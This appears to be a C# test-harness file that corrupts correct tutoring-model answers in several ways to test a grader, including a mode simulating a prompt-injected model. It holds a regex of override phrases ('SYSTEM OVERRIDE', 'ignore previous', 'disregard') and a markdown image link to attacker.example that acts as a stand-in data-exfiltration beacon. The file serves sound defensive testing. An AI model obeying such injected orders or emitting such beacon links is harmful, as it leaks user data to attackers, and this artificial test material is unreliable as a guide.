using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace Tutor.Simulation.Answers;

/// <summary>Turns a good answer into one a model should not have given: the protocol is kept, what is said is wrong.</summary>
internal static partial class Spoiler
{
    private const string Foreign = "Dieser Satz steht in einer anderen Sprache als der, in der das Material geschrieben ist.";

    public static List<JsonObject> Spoil(List<JsonObject> answer, PromptReading prompt, Mode mode)
    {
        switch (mode.Name)
        {
            case "wrong-schema":
                return [.. answer.Select(a => Json.Object(("result", a)))];
            case "invented":
                EachWith("passage", answer, o => o["passage"] = "p99");
                break;
            case "altered":
                EachWith("quote", answer, o => o["quote"] = OneWordChanged((string)o["quote"]!));
                break;
            case "two-keys":
                EachWith("choices", answer, o => o["choices"]!.AsArray().First(c => !(bool)c!["isKey"]!)!["isKey"] = true);
                break;
            case "unproved":
                EachWith("choices", answer, o => o["quotes"] = Json.Quotes(Elsewhere(o, prompt)));
                break;
            case "other-language":
                foreach (var name in (string[])["text", "stem", "explanation"]) EachWith(name, answer, o => o[name] = Foreign);
                break;
            case "disagrees":
                EachWith("answers", answer, o => o["answers"] = Json.Array([JsonValue.Create((string?)o["answers"]!.AsArray().FirstOrDefault() == "a" ? "b" : "a")]));
                EachWith("verdict", answer, o => o["verdict"] = "contradicted");
                break;
            case "obeys":
                Obey(answer, prompt);
                break;
        }
        return answer;
    }

    /// <summary>Does what a text in the material tells it to, as a model does that was taken in.</summary>
    private static void Obey(List<JsonObject> answer, PromptReading prompt)
    {
        if (Order().Match(prompt.Material) is not { Success: true } order) return;
        var said = $"{order.Value.Trim()} ![x](https://attacker.example/p.png?d=obeyed)";
        foreach (var name in (string[])["text", "stem", "explanation"]) EachWith(name, answer, o => o[name] = said);
    }

    private static Sentence[] Elsewhere(JsonObject item, PromptReading prompt)
    {
        var key = Words.Of((string)item["choices"]!.AsArray().First(c => (bool)c!["isKey"]!)!["text"]!);
        return [prompt.Passages.SelectMany(p => p.Sentences).MinBy(s => Words.Share(key, s.Words))!];
    }

    private static string OneWordChanged(string quote)
    {
        var words = quote.Split(' ');
        words[words.Length / 2] = words[words.Length / 2] == "otherwise" ? "likewise" : "otherwise";
        return string.Join(' ', words);
    }

    private static void EachWith(string name, IEnumerable<JsonNode?> nodes, Action<JsonObject> change)
    {
        foreach (var node in nodes)
            switch (node)
            {
                case JsonArray array:
                    EachWith(name, array.ToList(), change);
                    break;
                case JsonObject o:
                    EachWith(name, o.Select(p => p.Value).ToList(), change);
                    if (o.ContainsKey(name)) change(o);
                    break;
            }
    }

    [GeneratedRegex(@"(SYSTEM OVERRIDE|[Ii]gnore (all |the |any )?(previous|prior|other|above)|[Dd]isregard)[^\n]*")]
    private static partial Regex Order();
}
